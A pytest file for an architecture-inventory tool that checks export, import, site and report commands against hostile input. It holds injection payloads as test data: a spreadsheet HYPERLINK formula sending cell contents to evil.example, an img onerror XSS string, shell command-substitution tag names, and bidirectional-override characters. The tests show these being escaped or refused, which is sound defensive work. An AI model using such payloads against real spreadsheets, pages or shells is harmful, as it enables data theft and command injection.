"""A hostile pull request against what came after issue #10: import, export, the site, the
pull-request comment and the history (the same rules as tests/test_hostile_input.py).

Every FIFO, link and device here lives in the test's temporary folder; no test names a device
of the machine.
"""

from __future__ import annotations

import json
import os
import textwrap
import zipfile

import pytest
from importing_helpers import ORG_MAPPING, empty_repository, mapping, snapshot, workbook
from openpyxl import load_workbook

AS_OF = "2026-11-27"
HOSTILE_NAMES = {
    "formel": '=HYPERLINK("https://evil.example/?"&A1,"Klicka här")',
    "plus": "+46 SUM(A1)",
    "minus": "-1+1",
    "snabel": "@SUM(A1)",
    "fel": "#N/A",
    "styr": "klocka \x07 och \x1b[31m röd",
    "lang": "x" * 40_000,
}


def _system(entity_id: str, name: str) -> str:
    return textwrap.dedent(f"""\
        kind: system
        id: {entity_id}
        name: {json.dumps(name)}
        owner: ks
        system_owner: Registrator
        capabilities: [ekonomi]
        lifecycle: {{status: active}}
        """)


@pytest.fixture
def hostile_names(repository):
    files = {f"architecture/systems/{key}.yaml": _system(key, name)
             for key, name in HOSTILE_NAMES.items()}
    return repository(files)


# -- export: what a manager opens in Excel ------------------------------------------------------


def test_export_never_writes_a_formula_and_keeps_text_text(hostile_names, run, tmp_path):
    out = tmp_path / "landskap.xlsx"
    result = run("export", hostile_names, "--out", out, "--as-of", AS_OF, "--lang", "en")
    assert result.exit_code == 0, result.output  # the control characters were an internal error
    with zipfile.ZipFile(out) as archive:
        sheets = [archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/")]
    assert not any(b"<f>" in sheet or b"<f " in sheet for sheet in sheets)
    assert not any(b't="e"' in sheet for sheet in sheets)
    book = load_workbook(out)
    systems = book["Systems"]
    header = [cell.value for cell in systems[1]]
    cells = {row[0].value: row[header.index("name")] for row in systems.iter_rows(min_row=2)}
    for key in ("formel", "plus", "minus", "snabel"):
        assert cells[key].data_type == "s"
        assert cells[key].quotePrefix, key  # stays text when someone edits the cell
    assert cells["formel"].value == '=HYPERLINK("https://evil.example/?"&A1,"Klicka här")'
    assert cells["fel"].value == "#N/A" and cells["fel"].data_type == "s"
    assert cells["styr"].value == "klocka \\x07 och \\x1b[31m röd"  # shown, as everywhere else
    assert cells["lang"].value == "x" * 32_766 + "…"  # what Excel holds in a cell
    assert not cells["ekonomisystem"].quotePrefix


def test_an_export_with_such_values_imports_back_unchanged(hostile_names, run, tmp_path):
    for key in ("styr", "lang"):  # shown escaped, or cut: those cannot come back
        (hostile_names / f"architecture/systems/{key}.yaml").unlink()
    out = tmp_path / "landskap.xlsx"
    assert run("export", hostile_names, "--out", out, "--as-of", AS_OF).exit_code == 0
    result = run("import", out, "--mapping", tmp_path / "landskap.mapping.yaml", hostile_names, "--dry-run",
                 "--lang", "en")
    assert result.exit_code == 0, result.output
    assert "0 new, 0 with differences" in result.output


def test_export_writes_neither_file_when_one_of_them_is_refused(repository, run, tmp_path):
    root = repository()
    (root / "reports").mkdir()
    elsewhere = tmp_path / "elsewhere.yaml"
    elsewhere.write_text("kept", encoding="utf-8")
    (root / "reports" / "landskap.mapping.yaml").symlink_to(elsewhere)
    result = run("export", root, "--as-of", AS_OF, "--lang", "en")
    assert result.exit_code == 2
    assert "landskap.mapping.yaml is a symbolic link" in result.output
    assert not (root / "reports" / "landskap.xlsx").exists()  # no workbook without its mapping
    assert elsewhere.read_text(encoding="utf-8") == "kept"


@pytest.mark.parametrize("command", [("export",), ("report", "--format", "md")])
def test_a_committed_reports_link_out_of_the_repository_is_refused_naming_the_folder(command, repository, run,
                                                                                    tmp_path):
    root = repository()
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (root / "reports").symlink_to(elsewhere)
    result = run(*command, root, "--as-of", AS_OF, "--lang", "en")
    assert result.exit_code == 2
    assert f"the folder {root / 'reports'} leads outside the repository" in result.output
    assert "reports/_" not in result.output  # the folder or the file, not a made-up name in it
    assert list(elsewhere.iterdir()) == []


# -- import: reading what a stranger sends ------------------------------------------------------

CSV_MAPPING = ORG_MAPPING
XLSX_MAPPING = ORG_MAPPING.replace("- kind:", "- sheet: Org\n        kind:")


def _import_fails(run, root, *args) -> str:
    before = snapshot(root)
    result = run("import", *args, root, "--lang", "en")
    assert result.exit_code == 1, result.output
    assert "nothing was written" in result.output
    assert snapshot(root) == before
    return result.output


def test_a_csv_line_wider_than_a_spreadsheet_is_refused_before_its_cells_are_split(run, tmp_path):
    from eacheck.importing.sheets import MAX_COLUMNS

    root = empty_repository(tmp_path / "repo")
    source = tmp_path / "bred.csv"
    source.write_bytes(b"Id;Namn\r\nksf;Kommunstyrelsen\r\n" + b"ab;" * (MAX_COLUMNS + 1) + b"\r\n")
    output = _import_fails(run, root, source, "--mapping", mapping(tmp_path, CSV_MAPPING))
    assert "bred.csv: row 3 holds more than 16,384 columns" in output


def test_a_workbook_row_wider_than_a_spreadsheet_is_refused(run, tmp_path):
    from eacheck.importing.sheets import MAX_COLUMNS

    root = empty_repository(tmp_path / "repo")
    source = tmp_path / "bred.xlsx"
    # openpyxl will not write past column XFD; cells without a reference are numbered on.
    workbook(source, {"Org": [["Id", "Namn"], ["ksf", "Kommunstyrelsen"]]})
    wide = tmp_path / "bredare.xlsx"
    cells = "".join("<c t=\"inlineStr\"><is><t>x</t></is></c>" for _ in range(MAX_COLUMNS + 1))
    with zipfile.ZipFile(source) as original, zipfile.ZipFile(wide, "w", zipfile.ZIP_DEFLATED) as copy:
        for member in original.infolist():
            data = original.read(member.filename)
            if member.filename == "xl/worksheets/sheet1.xml":
                data = data.replace(b"</sheetData>", f"<row r=\"3\">{cells}</row></sheetData>".encode())
            copy.writestr(member.filename, data)
    output = _import_fails(run, root, wide, "--mapping", mapping(tmp_path, XLSX_MAPPING))
    assert "Org: row 3 holds more than 16,384 columns" in output


@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
def test_only_the_columns_the_mapping_names_are_kept(suffix, tmp_path):
    """A sheet with thousands of columns nobody maps costs no memory per cell."""
    from eacheck.importing.sheets import Workbook, read_csv

    header = ["Id", "Namn"] + [f"Extra {number}" for number in range(2000)]
    row = ["ksf", "Kommunstyrelsen"] + ["x"] * 2000
    if suffix == "csv":
        source = tmp_path / "org.csv"
        source.write_text("\r\n".join(";".join(line) for line in (header, row)) + "\r\n", encoding="utf-8")
        table = read_csv(source, "org.csv", 1, ["Id", "Namn"])
    else:
        source = workbook(tmp_path / "org.xlsx", {"Org": [header, row]})
        book = Workbook(source)
        try:
            table = book.table("Org", 1, columns=["id", " NAMN "])  # matched as column names are
        finally:
            book.close()
    assert len(table.header) == 2002  # the header is whole: messages list the columns there are
    assert table.rows == [(2, {1: "ksf", 2: "Kommunstyrelsen"})]


# -- import --update: editing in place, never through a link ---------------------------------------

UPDATE = "Id;Namn\r\nks;Nytt namn\r\n"


def test_update_of_a_file_hard_linked_out_of_the_repository_leaves_the_other_name_alone(repository, run, tmp_path):
    root = repository()
    inside = root / "architecture/organizations.yaml"
    outside = tmp_path / "utanfor.yaml"
    os.link(inside, outside)
    before = outside.read_bytes()
    source = tmp_path / "org.csv"
    source.write_text(UPDATE, encoding="utf-8")
    result = run("import", source, "--mapping", mapping(tmp_path, CSV_MAPPING), root, "--update", "--lang", "en")
    assert result.exit_code == 0, result.output
    assert "name: Nytt namn" in inside.read_text(encoding="utf-8")
    assert outside.read_bytes() == before  # replaced, not written through the shared inode
    assert os.stat(inside).st_ino != os.stat(outside).st_ino


def test_update_never_writes_through_a_linked_file(repository, run, tmp_path):
    root = repository()
    real = root / "notes/organizations.yaml"
    real.parent.mkdir()
    (root / "architecture/organizations.yaml").rename(real)
    (root / "architecture/organizations.yaml").symlink_to("../notes/organizations.yaml")
    before = real.read_bytes()
    source = tmp_path / "org.csv"
    source.write_text(UPDATE, encoding="utf-8")
    result = run("import", source, "--mapping", mapping(tmp_path, CSV_MAPPING), root, "--update", "--lang", "en")
    assert result.exit_code == 2
    assert "architecture/organizations.yaml is a symbolic link" in result.output
    assert real.read_bytes() == before and (root / "architecture/organizations.yaml").is_symlink()


# -- report --history: tags are names too ---------------------------------------------------------


def test_hostile_tag_names_are_text_in_every_format_and_a_pattern_is_never_an_option(repository, run):
    import json
    import re

    from gitrepo import GitRepository

    repo = GitRepository(repository())
    repo.commit("första")
    hostile = {  # what git allows in a tag name: no space, no control character
        "report-2026-Q1-<img/src=x/onerror=alert(1)>": "2026-Q1",
        "report-2026-Q2-`id`|@everyone": "2026-Q2",
        "report-2026-Q3-\u202e$(touch${IFS}x)": "2026-Q3",
    }
    for tag in hostile:
        repo.git("tag", tag)
    args = ("report", repo.root, "--as-of", AS_OF, "--history", "--out", "-")
    document = json.loads(run(*args, "--format", "json").stdout)
    assert [point["tag"] for point in document["history"]] == [*hostile, None]  # JSON keeps them exact
    markdown = run(*args, "--format", "md").stdout
    assert "\\<img/src=x/onerror=alert(1)\\>" in markdown and re.search(r"(?<!\\)<img", markdown) is None
    assert "\\`id\\`\\|@everyone" in markdown and "\\u202e" in markdown and "\u202e" not in markdown
    html = run(*args, "--format", "html").stdout
    assert "<img/src" not in html and "&lt;img/src=x/onerror=alert(1)&gt;" in html
    assert not (repo.root / "x").exists()
    # A pattern that looks like an option of git's is a pattern (the CLI takes none starting
    # with "-"; the API does): it matches no tag, where git read it as "every tag on HEAD".
    from datetime import date

    from eacheck import api

    points = api.report(repo.root, date.fromisoformat(AS_OF), history="--points-at=HEAD")["history"]
    assert [point["tag"] for point in points] == [None]


@pytest.mark.parametrize("command", ["import", "init"])
@pytest.mark.parametrize("what", ["fifo", "device", "mapping"])
def test_a_source_or_mapping_that_is_not_a_file_is_named_and_never_read(command, what, repository, run, tmp_path):
    root = repository()
    source = tmp_path / "org.csv"
    source.write_text(UPDATE, encoding="utf-8")
    rules = mapping(tmp_path, CSV_MAPPING)
    odd = tmp_path / "udda"
    if what == "device":
        odd.symlink_to(os.devnull)  # a link in our folder to a character device: read, never written
    else:
        os.mkfifo(odd)  # opening it to read would wait for a writer for ever
    if what == "mapping":
        arguments = (source, "--mapping", odd)
    else:
        arguments = (odd, "--mapping", rules)
    if command == "init":
        result = run("init", tmp_path / "ny", "--from", *arguments, "--lang", "en")
    else:
        result = run("import", *arguments, root, "--lang", "en")
    assert result.exit_code == 2, result.output
    kind = "a character device" if what == "device" else "a FIFO (named pipe)"
    assert f"{odd} is {kind}, not a file; give the path of a file" in result.output


def test_many_rows_with_one_id_name_ten_others_each_not_all(run, tmp_path):
    """Every row with the id is reported, each naming ten others and counting the rest: listing
    all of them made 100,000 rows of one id quadratic (a 7 MB file ran out of 20 GB)."""
    root = empty_repository(tmp_path / "repo")
    source = tmp_path / "samma.csv"
    source.write_text("Id;Namn\r\n" + "ksf;Kommunstyrelsen\r\n" * 2000, encoding="utf-8")
    output = _import_fails(run, root, source, "--mapping", mapping(tmp_path, CSV_MAPPING))
    lines = [line for line in output.splitlines() if "is also the id of" in line]
    assert len(lines) == 2000
    assert lines[0].startswith("samma.csv:2: column 'Id': the id 'ksf' is also the id of samma.csv:3, samma.csv:4,")
    assert "samma.csv:12 and 1,989 more rows;" in lines[0]
    assert all(line.count("samma.csv:") == 11 for line in lines)


def test_did_you_mean_for_failed_lookups_is_budgeted_not_squared(monkeypatch):
    """Each suggestion compares a value with every name of its kind; 4,000 rows with an unknown
    parent among 4,000 organizations took 169 s. The comparisons are budgeted; every failed
    lookup is still a problem, and an answer already found is reused."""
    from eacheck import i18n
    from eacheck.importing import cells, rows

    def failure(names, text) -> str:
        with pytest.raises(cells.CellError) as failed, i18n.using("en"):
            names.resolve("organization", text)
        with i18n.using("en"):
            return str(failed.value)

    fresh = rows.Names()
    fresh.add("organization", "ksf", "Kommunstyrelseförvaltningen")
    assert "did you mean 'ksf' (Kommunstyrelseförvaltningen)?" in failure(fresh, "Kommunstyrelseförvaltnigen")

    names = rows.Names()
    for number in range(4000):
        names.add("organization", f"org-{number}", f"Organisation nummer {number}")
    compared = []
    real = rows.closest
    monkeypatch.setattr(rows, "closest", lambda text, spellings, n=3: compared.append(len(spellings)) or real(
        text, spellings, n))
    assert "did you mean 'org-17' (Organisation nummer 17), " in failure(names, "Organisation numer 17")
    messages = [failure(names, f"okänd {number}") for number in range(4000)]
    assert all("is neither in the import nor in the repository" in message for message in messages)
    assert 0 < sum(compared) <= rows.HINT_BUDGET
    before = len(compared)
    assert "did you mean 'org-17'" in failure(names, "organisation  numer 17")  # asked before: reused
    assert len(compared) == before


# -- site: the folder it replaces ------------------------------------------------------------------


@pytest.mark.parametrize("what", ["fifo", "device"])
def test_site_out_at_a_fifo_or_a_link_to_a_device_is_refused_and_left_alone(what, repository, run, tmp_path):
    import stat

    out = tmp_path / "public"
    if what == "fifo":
        os.mkfifo(out)
    else:
        out.symlink_to(os.devnull)
    result = run("site", repository(), "--out", out, "--as-of", AS_OF, "--lang", "en")
    assert result.exit_code == 2, result.output
    if what == "fifo":
        assert stat.S_ISFIFO(os.lstat(out).st_mode)
    else:
        assert out.is_symlink() and stat.S_ISCHR(os.stat(out).st_mode)
    assert not any(path.name.startswith(".public.") for path in tmp_path.iterdir())  # no half-built folder


def test_a_committed_site_folder_with_links_out_is_replaced_without_following_them(repository, run, tmp_path):
    root = repository()
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / "kept.txt").write_text("kept", encoding="utf-8")
    site = root / "site"
    site.mkdir()
    (site / ".eacheck-site").write_text("", encoding="utf-8")  # a pull request can commit the marker
    (site / "ut").symlink_to(elsewhere)
    (site / "fil.html").symlink_to(elsewhere / "kept.txt")
    result = run("site", root, "--as-of", AS_OF, "--lang", "en")
    assert result.exit_code == 0, result.output
    assert (site / "index.html").is_file() and not (site / "ut").exists() and not (site / "fil.html").exists()
    assert (elsewhere / "kept.txt").read_text(encoding="utf-8") == "kept"


def test_update_round_trips_only_the_documents_it_changes():
    """One changed key in a file of 20,000 organizations took seven minutes when the whole file
    went through ruamel and the line matcher (benchmarks/hostile-results.md); now only its
    document does. Every other line stays as it was, and a document that cannot be found by its
    id line (flow style) still falls back to the whole file."""
    from eacheck.importing.update import updated_text

    documents = [f"kind: organization\nid: org-{number}\nname: Organisation {number}  # kommentar\n"
                 f"type: administration\n" for number in range(200)]
    documents[3] = 'kind: organization\nid: "org-3"\nname: Tre\ntype: administration\n'
    original = "# Organisationerna\n---\n" + "\n---\n".join(documents)
    kinds = {"org-3": "organization", "org-100": "organization"}
    changed = updated_text(original, {"org-100": {("name",): "Nytt namn"}, "org-3": {("parent",): "org-1"}},
                           kinds)
    before, after = original.splitlines(), changed.splitlines()
    assert len(after) == len(before) + 1
    assert "parent: org-1" in after and "name: Nytt namn         # kommentar" in after
    added = after.index("parent: org-1")
    assert after[added - 1] == "type: administration" and after[added + 1:added + 3] == ["", "---"]
    assert [line for line in after if line not in ("parent: org-1", "name: Nytt namn         # kommentar")] \
        == [line for line in before if line != "name: Organisation 100  # kommentar"]
    flow = "kind: organization\nid: a\nname: A\ntype: administration\n---\n{kind: organization, id: b, name: B, " \
           "type: administration}\n"
    assert "name: C" in updated_text(flow, {"b": {("name",): "C"}}, {"b": "organization"})


def test_notes_on_standard_error_never_carry_a_control_character(repository, run):
    """A tag may hold a bidirectional override (git allows it): the note that leaves it out
    shows it escaped, as every other output does."""
    from gitrepo import GitRepository

    repo = GitRepository(repository())
    repo.commit("första")
    repo.git("tag", "report-utkast-\u202eevil")
    result = run("report", repo.root, "--as-of", AS_OF, "--history", "--format", "json", "--out", "-",
                 "--lang", "en")
    assert result.exit_code == 0, result.output
    assert "report-utkast-\\u202eevil" in result.stderr and "\u202e" not in result.stderr


def test_what_an_import_quotes_from_a_workbook_never_reaches_the_terminal_raw(run, tmp_path):
    root = empty_repository(tmp_path / "repo")
    sheet = "Org\u202eevil"
    source = workbook(tmp_path / "bidi.xlsx", {sheet: [["Id", "Namn"], ["ny", "Ny"], ["Fel", "x"]]})
    rules = mapping(tmp_path, XLSX_MAPPING.replace("sheet: Org", 'sheet: "Org\\u202eevil"'))
    output = _import_fails(run, root, source, "--mapping", rules)
    assert "Org\\u202eevil:3: column 'Id'" in output and "\u202e" not in output


@pytest.mark.parametrize("what", ["link out", "dangling link", "file"])
def test_init_from_refuses_an_architecture_it_cannot_write_before_writing_anything(what, run, tmp_path):
    """All or nothing: the starter files were written, then the import refused (or crashed on a
    dangling link with an internal error), leaving half a repository."""
    directory = tmp_path / "ny"
    directory.mkdir()
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    architecture = directory / "architecture"
    if what == "link out":
        architecture.symlink_to(elsewhere)
    elif what == "dangling link":
        architecture.symlink_to(tmp_path / "finns-inte")
    else:
        architecture.write_text("en fil\n", encoding="utf-8")
    source = tmp_path / "org.csv"
    source.write_text(UPDATE, encoding="utf-8")
    result = run("init", directory, "--from", source, "--mapping", mapping(tmp_path, CSV_MAPPING), "--lang", "en")
    assert result.exit_code == 2, result.output
    assert "internal error" not in result.output
    assert [path.name for path in directory.iterdir()] == ["architecture"]
    assert list(elsewhere.iterdir()) == []


@pytest.mark.parametrize("data, expected", [
    (b"Id;Namn\r\nksf;K\x00S\r\n", "nul.csv:2: column 'Namn': the cell holds the control character '\\x00'"),
    ("Id;Namn\r\nksf;Kommunstyrelsen\r\n".encode("utf-16-le"), "nul.csv: the file is UTF-16"),
])
def test_a_zero_byte_is_a_control_character_in_its_cell_not_a_sign_of_utf16(data, expected, run, tmp_path):
    root = empty_repository(tmp_path / "repo")
    source = tmp_path / "nul.csv"
    source.write_bytes(data)
    assert expected in _import_fails(run, root, source, "--mapping", mapping(tmp_path, CSV_MAPPING))


def test_update_of_a_document_ruamel_refuses_is_a_problem_at_its_row_not_an_internal_error(repository, run,
                                                                                          tmp_path):
    root = repository({"architecture/organizations.yaml": """\
        kind: organization
        id: ks
        name: Kommunstyrelsen
        name: Kommunstyrelseförvaltningen
        type: administration
        """})
    source = tmp_path / "org.csv"
    source.write_text(UPDATE, encoding="utf-8")
    output = _import_fails(run, root, source, "--mapping", mapping(tmp_path, CSV_MAPPING), "--update")
    assert ("org.csv:2: architecture/organizations.yaml cannot be changed in place (found duplicate key "
            "\"name\"") in output
    assert "internal error" not in output


def test_a_long_name_is_whole_on_its_own_page_and_cut_where_other_pages_link_to_it(repository):
    """A megabyte-long name was repeated in full on every page that links to the system: 69
    integrations of one system made a site of 415 MB."""
    from datetime import date

    from eacheck import api

    long_name = "N" * 100_000
    files = {"architecture/systems/lang.yaml": _system("lang", long_name)}
    for number in range(5):
        files[f"architecture/integrations/i{number}.yaml"] = textwrap.dedent(f"""\
            kind: integration
            id: i{number}
            from: lang
            to: ekonomisystem
            method: api
            """)
    pages = api.render_site(repository(files), date(2026, 11, 27))
    assert long_name in pages["system/lang.html"].decode("utf-8")
    for number in range(5):
        page = pages[f"integration/i{number}.html"].decode("utf-8")
        assert long_name not in page and "N" * 199 + "…" in page
    assert sum(map(len, pages.values())) < 2_000_000
